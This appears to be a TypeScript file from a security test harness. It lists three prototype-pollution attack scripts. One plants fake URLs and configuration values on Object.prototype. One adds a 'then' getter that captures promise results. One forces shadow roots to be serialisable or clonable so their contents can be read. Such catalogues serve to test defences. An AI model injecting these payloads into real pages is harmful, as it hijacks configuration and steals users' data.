/** Object.prototype as a place for settings: what code reads that never asked whether a property is its own. */
import type { Attack } from '../attack.ts';

export const CONFIGURATION: readonly Attack[] = [
  {
    id: 'pp-config',
    what: 'adds addresses, origins and options to Object.prototype, and options for shadow roots',
    aim: 'replacement',
    control: 'replaces',
    alone: true,
    script: `for (const name of ['frameUrl', 'hostedUrl', 'hosted-url', 'origin', 'targetOrigin', 'config', 'address', 'src', 'srcdoc', 'environment', 'gateway', 'api', 'script', 'endpoint', 'debug', 'name'])
        if (!(name in Object.prototype)) Object.defineProperty(Object.prototype, name, { configurable: true, writable: true, enumerable: false, value: FAKE });`,
  },
  {
    id: 'pp-then',
    what: 'adds a getter named then to Object.prototype, which sees whatever a promise resolves with',
    aim: 'replacement',
    control: 'reads',
    alone: true,
    noisy: true,
    script: `Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { steal(this); crawl(this); return undefined; } });`,
  },
  {
    id: 'pp-root',
    what: 'adds the options serializable and clonable for shadow roots to Object.prototype, then serialises and clones',
    aim: 'reading',
    control: 'reads',
    alone: true,
    noisy: true,
    script: `for (const name of ['serializable', 'clonable']) Object.defineProperty(Object.prototype, name, { configurable: true, writable: true, enumerable: false, value: true });
      moment(() => {
        // an engine without getHTML clones
        for (const host of hosts()) { steal(host.getHTML?.({ serializableShadowRoots: true })); const copy = host.cloneNode(true); steal(copy.getHTML?.({ serializableShadowRoots: true })); }
      });`,
  },
];
